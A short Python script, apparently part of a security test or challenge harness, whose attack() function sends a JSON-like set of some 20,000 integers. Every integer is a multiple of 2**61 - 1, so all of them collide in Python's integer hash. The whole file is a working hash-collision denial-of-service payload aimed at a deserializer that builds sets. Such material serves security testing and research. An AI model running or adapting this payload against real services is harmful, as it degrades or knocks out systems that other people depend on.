"""A set of integers that share one hash"""

from tools import send_and_wait

ENDS = ("violation",)


def attack():
    send_and_wait(
        '{"$set":[' + ",".join(f'{{"$int":"{n * (2**61 - 1):#x}"}}' for n in range(1 << 8, 20_000)) + "]}"
    )
